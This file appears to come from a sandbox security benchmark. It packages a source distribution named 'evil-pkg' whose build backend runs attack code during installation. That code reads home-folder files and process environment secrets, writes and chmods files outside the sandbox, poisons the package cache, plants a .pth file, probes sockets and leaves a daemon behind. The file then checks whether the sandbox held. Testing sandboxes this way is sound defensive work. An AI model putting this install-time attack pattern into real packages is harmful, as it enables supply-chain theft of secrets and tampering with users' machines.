"""Attacks while packages are installed: a source distribution whose build runs what its author likes."""

import io
import os
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from benchmarks.attacks.attack import PREAMBLE, Outcome
from benchmarks.attacks.host import Host
from papercoder.sandbox import Limits, Sandbox, create_environment

NAME = "evil-pkg"
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
WHEEL = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
METADATA = "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n"
BACKEND = """
import contextlib, io, json, os, zipfile
ATTACK = {attack!r}

def build_wheel(folder, config_settings=None, metadata_directory=None):
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        exec(ATTACK, {{"__name__": "attack"}})
    name = "evil_pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("evil_pkg.py", "SEEN = " + repr(printed.getvalue()))
        wheel.writestr("evil_pkg-1.0.dist-info/METADATA", {metadata!r})
        wheel.writestr("evil_pkg-1.0.dist-info/WHEEL", {wheel!r})
        wheel.writestr("evil_pkg-1.0.dist-info/RECORD", "")
    return name
"""
SOURCE = """
def step(name, action):
    print(chr(10) + "STEP", name)
    attempt(action)

step("home", lambda: open(told[0]).read())
step("environments", lambda: [text for f in glob.glob("/proc/[0-9]*/environ") if (text := ours(f))])
step("variables", lambda: os.environ.get("PAPERCODER_ATTACKED_KEY"))
step("outside", lambda: open(told[1], "w").write("x"))
step("modes", lambda: os.chmod(told[1], 0o777))
step("cache", lambda: open(told[2], "w").write("x"))
step("other environment", lambda: open(told[3], "w").write("x"))
step("unix socket", lambda: connected(told[4]))
step("loopback", lambda: socket.create_connection(("127.0.0.1", int(told[5])), 5))
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 3)
    os.execvp("sleep", ["sleep", "1000", mark])
"""
HELPERS = """
def ours(file):
    try:
        text = open(file, "rb").read()
    except OSError:
        return b""
    return text if b"PAPERCODER_ATTACKED_KEY" in text else b""
def connected(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    return s
"""
INSTALLATION = {
    "installing: files of the home folder": "home",
    "installing: secrets in environments": "environments",
    "installing: writing outside": "outside",
    "installing: modes of files outside": "modes",
    "installing: poisoning the package cache": "cache",
    "installing: writing to another environment": "other environment",
    "installing: unix socket with a path": "unix socket",
    "installing: loopback, TCP": "loopback",
    "installing: a daemon left behind": "daemon",
}


def carry_out_installation(sandbox: Sandbox, host: Host) -> Iterator[Outcome]:
    """One installation that attacks everything; what it saw is in the module that it installs."""
    folder = host.folder / "environments"
    cache, other = host.folder / "cache", folder / "other"
    for place in (cache, other):
        place.mkdir(parents=True)
    told = [host.home_file, host.outside, cache / "wheel", other / "x.pth", host.unix_path, host.tcp_port]
    with _index(host, cache, [str(word) for word in told]):
        venv = create_environment(NAME, folder, sandbox=sandbox, log=lambda _: None)
    report = sandbox.run(
        ["python", "-c", "import evil_pkg; print(evil_pkg.SEEN)"],
        workdir=host.repository,
        limits=Limits(),
        environment=venv,
    )
    steps = dict(part.partition("\n")[::2] for part in report.output.split("\nSTEP ")[1:])
    held = {
        "home": host.secret not in steps["home"],
        "environments": host.secret not in steps["environments"] + steps["variables"],
        "outside": host.outside.read_text() == host.secret,
        "modes": host.outside.stat().st_mode & 0o777 != 0o777,
        "cache": not (cache / "wheel").exists(),
        "other environment": not (other / "x.pth").exists(),
        "unix socket": "REACHED" not in steps["unix socket"],
        "loopback": "REACHED" not in steps["loopback"],
        "daemon": host.left() == 0,
    }
    for name, step in INSTALLATION.items():
        yield Outcome(name, held[step], "", report.seconds)


@contextmanager
def _index(host: Host, cache: Path, told: list[str]) -> Iterator[None]:
    """A folder with that one distribution is all that the installer can see."""
    attack = PREAMBLE.replace("sys.argv[1:]", repr([host.mark, *told])) + HELPERS + SOURCE
    shelf = host.folder / "shelf"
    shelf.mkdir()
    files = {
        "pyproject.toml": PROJECT,
        "PKG-INFO": METADATA,
        "backend.py": BACKEND.format(attack=attack, metadata=METADATA, wheel=WHEEL),
    }
    with tarfile.open(shelf / "evil_pkg-1.0.tar.gz", "w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"evil_pkg-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    settings = {"UV_DEFAULT_INDEX": f"file://{shelf}", "UV_FIND_LINKS": str(shelf), "UV_CACHE_DIR": str(cache)}
    before = {name: os.environ.get(name) for name in settings}
    os.environ.update(settings)
    try:
        yield
    finally:
        for name, value in before.items():
            os.environ.pop(name) if value is None else os.environ.__setitem__(name, value)
